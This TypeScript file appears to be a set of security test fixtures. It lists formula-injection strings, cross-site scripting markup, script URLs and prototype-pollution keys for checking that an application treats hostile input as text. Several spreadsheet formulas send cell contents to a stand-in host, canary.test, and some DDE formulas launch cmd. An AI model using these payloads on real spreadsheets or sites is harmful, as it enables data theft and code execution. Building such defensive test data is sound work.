/** Texts that a spreadsheet program might treat as formulas: each prefix, and known attacks. */
export const formulas: readonly string[] = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '\u0000=',
    "'=",
    '"=',
    '\ufeff=',
    '\u00a0=',
  ].map((start) => `${start}1+1`),
  '=IMPORTXML("http://canary.test/?"&A1,"//a")',
  '=IMPORTDATA(CONCAT("http://canary.test/",A1))',
  '=HYPERLINK("http://canary.test/?"&B2,"Open")',
  '=IMAGE("http://canary.test/"&A2)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1-800-555-0199',
  '-2+3+cmd|" /C calc"!D2',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '{=SUM(A1:A9)}',
  '","=1+1","',
  '=1+1\r\n=2+2',
  '007',
  '1e5',
  '2026-02-30',
  'TRUE',
];

const fire = 'window.canaryFired=1';

/** Markup that sets `window.canaryFired`, opens a dialog or calls `canaryHost` if it is not treated as text. */
export const canaryHost = 'canary.test';
export const markup: readonly string[] = [
  `<script>${fire}</script>`,
  `"><img src=x onerror="${fire}">`,
  `<svg/onload=${fire}>`,
  `'"><iframe srcdoc="<script>parent.${fire.slice(7)}</script>">`,
  `<a href="javascript:${fire}">click</a>`,
  `</td></tr></table><img src=http://${canaryHost}/a>`,
  `{{constructor.constructor('${fire}')()}}`,
  `\${${fire}}`,
  `<style>@import 'http://${canaryHost}/b';</style>`,
  `<form action="http://${canaryHost}/c"><button autofocus onfocus="${fire}">x</button></form>`,
  `&lt;img src=x onerror=${fire}&gt;`,
  `</textarea></title></script><script>alert(1)</script>`,
];

/** URLs that no link may have. */
export const scriptUrls: readonly string[] = [
  `javascript:${fire}`,
  `JaVaScRiPt:${fire}//@example.test`,
  `java\tscript:${fire}`,
  ` javascript:${fire}`,
  `data:text/html,<script>${fire}</script>`,
  `vbscript:${fire}`,
  `mailto:x@example.test?body=<script>${fire}</script>`,
];

/** Keys that reach an object's prototype. */
export const prototypeKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  '__defineGetter__',
] as const;

/** `{key: value}`, with a key such as `__proto__` as an own property. */
export const ownKey = (key: string, value: unknown): Record<string, unknown> => Object.fromEntries([[key, value]]);
